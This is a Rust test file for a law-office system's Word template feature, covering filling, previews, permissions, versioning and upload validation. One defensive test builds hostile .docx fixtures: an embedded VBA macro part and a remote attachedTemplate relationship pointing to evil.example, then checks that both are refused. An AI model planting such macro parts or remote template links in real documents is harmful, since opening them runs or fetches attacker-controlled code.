//! Templates: what is kept, what is refused, what is filled and for whom.

use std::collections::BTreeMap;
use std::io::{Cursor, Write};

use bytes::Bytes;
use domain::filing::Shown;
use domain::templates::{FillForm, TemplateForm};
use office::{Caller, Error, documents, templates};
use papers::make::{self, Sheet};
use sqlx::Executor;

use crate::support::TestOffice;
use crate::support::people::World;

struct Shelf {
    test: TestOffice,
    world: World,
}

impl Shelf {
    async fn new() -> Shelf {
        let test = TestOffice::with_vault().await;
        let mut connection = test.superuser().await;
        let world = World::make(&mut connection).await;
        // the keys of the matrix open nothing
        connection
            .execute(
                "alter table case_keys disable trigger all; alter table document_versions disable trigger all;
                alter table template_versions disable trigger all;
                delete from filing_scans; delete from template_versions; delete from templates;
                delete from document_quarantines; delete from document_versions; delete from case_keys;
                alter table template_versions enable trigger all; alter table document_versions enable trigger all;
                alter table case_keys enable trigger all;",
            )
            .await
            .expect("an empty vault");
        Shelf { test, world }
    }

    fn caller(&self, name: &str) -> Caller {
        self.world.persona(name).caller(&self.test.office)
    }

    async fn add(&self, name: &str, says: &str) -> office::Result<domain::ids::TemplateId> {
        templates::add(&self.caller("partner"), &form(name), letter(says)).await
    }
}

fn form(name: &str) -> TemplateForm {
    TemplateForm { name: name.into(), kind: "correspondence".into(), ..TemplateForm::default() }
}

fn letter(says: &str) -> Bytes {
    let sheet =
        Sheet { title: "A letter".into(), paragraphs: vec![says.into()], ..Sheet::default() };
    make::docx(&sheet).into()
}

/// Why a file is refused beside the field.
fn refused<T: std::fmt::Debug>(done: office::Result<T>) -> String {
    match done {
        Err(Error::Invalid(errors)) => errors.of("file").expect("about the file").to_owned(),
        other => panic!("{other:?}"),
    }
}

/// A letter with one more part in its package.
fn with_part(name: &str, bytes: &[u8]) -> Bytes {
    let letter = letter("Dear {{client.name}}");
    let mut package = zip::ZipArchive::new(Cursor::new(letter)).expect("a package");
    let mut made = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for nth in 0..package.len() {
        made.raw_copy_file(package.by_index_raw(nth).expect("a part")).expect("copied");
    }
    made.start_file(name, zip::write::SimpleFileOptions::default()).expect("begun");
    made.write_all(bytes).expect("written");
    made.finish().expect("ended").into_inner().into()
}

#[tokio::test]
async fn a_template_is_filled_with_what_the_case_has_and_kept_as_a_document() {
    let shelf = Shelf::new().await;
    let id = shelf
        .add(
            "Letter",
            "Dear {{client.name}}, in {{case.number}} against {{opposing.names}}: {{case.court}}",
        )
        .await
        .unwrap();
    let caller = shelf.caller("paralegal-contribute");
    let (_, form, page) =
        templates::fill_page(&caller, shelf.world.open, Some(id), None).await.unwrap();
    assert_eq!(form.name, "Letter.docx");
    let blanks: Vec<_> = page
        .chosen
        .unwrap()
        .blanks
        .into_iter()
        .map(|blank| (blank.word, blank.value, blank.missing))
        .collect();
    let known = |word: &str, value: &str| (word.to_owned(), value.to_owned(), value.is_empty());
    assert_eq!(
        blanks,
        [
            known("client.name", "Ashdown Estate"),
            known("case.number", "A-1"),
            known("opposing.names", "Rupert Vane"),
            known("case.court", ""),
        ]
    );
    let values: BTreeMap<_, _> = blanks
        .into_iter()
        .map(|(word, value, _)| (FillForm::key(&word), value))
        .chain([(FillForm::key("case.court"), "Surrogate <Court> & Sons\nSecond line".to_owned())])
        .collect();
    let typed = FillForm {
        step: "preview".into(),
        name: "To the court".into(),
        values,
        ..FillForm::default()
    };
    let (_, _, page) =
        templates::fill_page(&caller, shelf.world.open, Some(id), Some(&typed)).await.unwrap();
    let Some(Shown::Text(lines, false)) = page.chosen.unwrap().preview else {
        panic!("no preview")
    };
    let read = lines.join("\n");
    assert!(
        read.contains("Dear Ashdown Estate, in A-1 against Rupert Vane: Surrogate <Court> & Sons"),
        "{read}"
    );
    let kept: i64 = sqlx::query_scalar("select count(*) from document_versions")
        .fetch_one(&mut shelf.test.superuser().await)
        .await
        .unwrap();
    assert_eq!(kept, 0, "a preview is kept nowhere");
    let kept = templates::save(&caller, shelf.world.open, id, &typed).await.unwrap();
    assert_eq!(kept.name, "To the court.docx");
    let opened = documents::open(&caller, kept.document, None, documents::Purpose::Download, false)
        .await
        .unwrap();
    assert!(opened.media.contains("wordprocessingml"));
    let said: Vec<String> = sqlx::query_scalar(
        "select action from audit_events where resource = 'template' and resource_id = $1 order by seq",
    )
    .bind(id.0)
    .fetch_all(&mut shelf.test.superuser().await)
    .await
    .unwrap();
    assert_eq!(said, ["add-template", "fill-template", "fill-template"]);
}

#[tokio::test]
async fn what_nothing_fills_acts_by_itself_or_is_no_letter_is_refused_by_name() {
    let shelf = Shelf::new().await;
    let partner = shelf.caller("partner");
    let add = async |bytes: Bytes| refused(templates::add(&partner, &form("Letter"), bytes).await);
    let stray = add(letter("Dear {{client.nmae}}")).await;
    assert!(stray.contains("{{client.nmae}}") && stray.contains("{{client.name}}"), "{stray}");
    assert!(add(letter("Dear {{client.name")).await.contains("not closed"));
    assert!(add(Bytes::from_static(b"MZ, not a letter")).await.contains("no Word document"));
    assert!(add(Bytes::new()).await.contains("Choose a Word document"));
    let macros = add(with_part("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")).await;
    assert!(macros.contains("macros"), "{macros}");
    let fetches = br#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>"#;
    let fetches = add(with_part("word/_rels/settings.xml.rels", fetches)).await;
    assert!(fetches.contains("evil.example"), "{fetches}");
    let whole = letter("Dear {{client.name}}");
    assert!(add(whole.slice(..whole.len() / 2)).await.contains("could not be read"));
    let rows = templates::list(&partner).await.unwrap().body.rows;
    assert!(rows.is_empty());
}

#[tokio::test]
async fn a_template_is_replaced_retired_and_offered_by_area() {
    let shelf = Shelf::new().await;
    let partner = shelf.caller("partner");
    let id = shelf.add("Letter", "Dear {{client.name}}").await.unwrap();
    let twice = shelf.add("letter", "Dear").await;
    assert!(matches!(&twice, Err(Error::Invalid(errors)) if errors.of("name").is_some()));
    templates::replace(&partner, id, letter("Dear {{client.name}}, {{today}}")).await.unwrap();
    let row = templates::list(&partner).await.unwrap().body.rows.remove(0);
    assert_eq!((row.version, row.blanks), (2, vec!["client.name".to_owned(), "today".to_owned()]));
    let offered = async |who: &str| {
        let page = templates::fill_page(&shelf.caller(who), shelf.world.open, None, None).await;
        page.map(|(_, _, page)| page.templates.len())
    };
    assert_eq!(offered("attorney-contribute").await.unwrap(), 1);
    // a view grant adds nothing, and the outside sees no case
    assert!(matches!(offered("attorney-view").await, Err(Error::Refused(_))));
    assert!(matches!(offered("attorney-outside").await, Err(Error::NotFound)));
    let other = TemplateForm {
        area: "Maritime".into(),
        revision: row.revision.to_string(),
        ..form("Letter")
    };
    templates::change(&partner, id, &other).await.unwrap();
    assert_eq!(offered("attorney-contribute").await.unwrap(), 0);
    let again = templates::change(&partner, id, &other).await;
    assert!(matches!(again, Err(Error::Conflict(_))));
    templates::retire(&partner, id).await.unwrap();
    let caller = shelf.caller("attorney-contribute");
    let retired = templates::fill_page(&caller, shelf.world.open, Some(id), None).await;
    assert!(matches!(retired, Err(Error::NotFound)));
    shelf.add("Letter", "Dear").await.unwrap();
    assert!(matches!(templates::reuse(&partner, id).await, Err(Error::Conflict(_))));
    for who in ["attorney-lead", "paralegal-manage", "billing"] {
        let done = templates::add(&shelf.caller(who), &form("Mine"), letter("Dear")).await;
        assert!(matches!(done, Err(Error::Refused(_))), "{who}");
    }
}
